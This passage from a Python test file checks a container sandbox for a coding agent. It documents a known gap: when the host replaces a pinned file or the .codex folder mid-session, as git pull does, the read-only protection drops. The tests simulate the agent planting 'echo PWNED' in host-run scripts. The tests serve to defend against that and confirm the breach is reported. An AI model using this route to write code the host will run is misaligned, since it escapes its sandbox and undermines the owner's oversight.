) -> None:  # type: ignore[no-untyped-def]
    """Open, documented (docs/security.md, "What is not covered"): the kernel drops a read-only
    pin in every container when the host renames a new file over it (git pull), so the agent
    can write run_in_container.sh after that. What holds: the report after the session names
    the file, so it is never run unseen."""
    sandbox = make_sandbox(tmp_path / "project", owner=owner)
    script = sandbox.project / "run_in_container.sh"

    def git_pull() -> None:
        # What git pull does: a new file renamed over the old one.
        fresh = script.with_name(".run_in_container.sh.new")
        fresh.write_bytes(script.read_bytes())
        stat = script.stat()
        os.chown(fresh, stat.st_uid, stat.st_gid)
        fresh.chmod(stat.st_mode)
        fresh.replace(script)

    status, out, err = write_once_unpinned(
        sandbox, "printf 'echo PWNED\\n' >> run_in_container.sh", git_pull
    )
    assert status == 0, err
    if "PWNED" in script.read_text():
        assert out.split() == ["wrote"], out
        assert "created or changed cxgen's run code or skills" in err, err
        assert f"  {script}" in err.splitlines(), err
    else:
        assert out.split() == ["held"], out


def test_run_code_written_after_the_host_replaced_codex_is_named_after_the_session(
    make_sandbox, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    """The project's own .codex is a read-only folder mount; the host replacing the folder itself
    mid-session drops it (as for a single file), and the agent can then write the run code. The
    report after the session names it (an outside review found a start that skipped it)."""
    sandbox = make_sandbox(tmp_path / "project")
    codex = sandbox.project / ".codex"

    def replace_codex() -> None:
        fresh = tmp_path / "codex-copy"
        subprocess.run(["cp", "-a", str(codex), str(fresh)], check=True)
        codex.rename(tmp_path / "codex-old")
        fresh.rename(codex)

    status, out, err = write_once_unpinned(
        sandbox, "echo 'echo PWNED' > .codex/run/lib/zz_agent.sh", replace_codex
    )
    assert status == 0, err
    if (codex / "run/lib/zz_agent.sh").exists():
        assert out.split() == ["wrote"], out
        assert "created or changed cxgen's run code or skills" in err, err
        assert f"  {codex}/run" in err.splitlines(), err
    else:
        assert out.split() == ["held"], out
